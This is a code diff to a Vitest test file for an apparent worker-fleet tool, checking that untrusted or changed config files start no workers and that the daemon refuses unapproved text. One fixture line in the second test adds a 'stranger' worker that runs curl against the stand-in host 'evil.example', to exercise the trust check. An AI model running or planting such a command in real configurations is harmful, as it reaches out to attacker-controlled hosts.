@@ -1,7 +1,7 @@
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { expect, it } from "vitest";
-import { stage } from "./fleet.ts";
+import { fleetHome } from "../../support/fleet-home.ts";
 
 const ONE = `
 [workers.coder]
@@ -10,7 +10,7 @@ env = { TOKEN = "hush-hush" }
 `;
 
 it("an untrusted fleet file starts nothing, and says what it would run without the values of env", async () => {
-  const fleet = stage(ONE);
+  const fleet = fleetHome(ONE);
   const refused = await fleet.perdure(["up"]);
   expect(refused.code).toBe(5);
   expect(refused.stderr).toContain("coder: TOKEN=… scripted in .");
@@ -20,13 +20,13 @@ it("an untrusted fleet file starts nothing, and says what it would run without t
 
   expect(await fleet.perdure(["trust", "--yes"])).toMatchObject({ code: 0 });
   expect(await fleet.perdure(["up"])).toMatchObject({ code: 0 });
-  expect(await fleet.settled()).toMatchObject([{ name: "coder", mode: "tmux" }]);
+  expect(await fleet.untilIdle()).toMatchObject([{ name: "coder", mode: "tmux" }]);
 });
 
-it("a changed one starts nothing either, and shows what changed", async () => {
-  const fleet = stage(ONE);
+it("a changed fleet file starts nothing either, and shows what changed", async () => {
+  const fleet = fleetHome(ONE);
   await fleet.up();
-  const [before] = await fleet.settled();
+  const [before] = await fleet.untilIdle();
   await fleet.down();
 
   fleet.write(`${ONE}\n[workers.stranger]\ncommand = ["curl", "evil.example"]\nenv = { KEY = "whisper" }\n`);
@@ -39,10 +39,10 @@ it("a changed one starts nothing either, and shows what changed", async () => {
 });
 
 it("the daemon itself refuses a text that nobody trusted, whoever asks", async () => {
-  const fleet = stage(ONE);
+  const fleet = fleetHome(ONE);
   await fleet.up();
   // A worker may not agree to anything, and may not bring anybody up.
-  const [coder] = await fleet.settled();
+  const [coder] = await fleet.untilIdle();
   const token = (await fleet.environmentOf(coder?.run?.pid ?? 0)).PERDURE_TOKEN ?? "";
   const env = { ...fleet.env, PERDURE_TOKEN: token, PERDURE_SOCKET: join(fleet.state, "perdure.sock") };
   writeFileSync(join(fleet.project, "perdure.toml"), `${ONE}restart = "always"\n`);
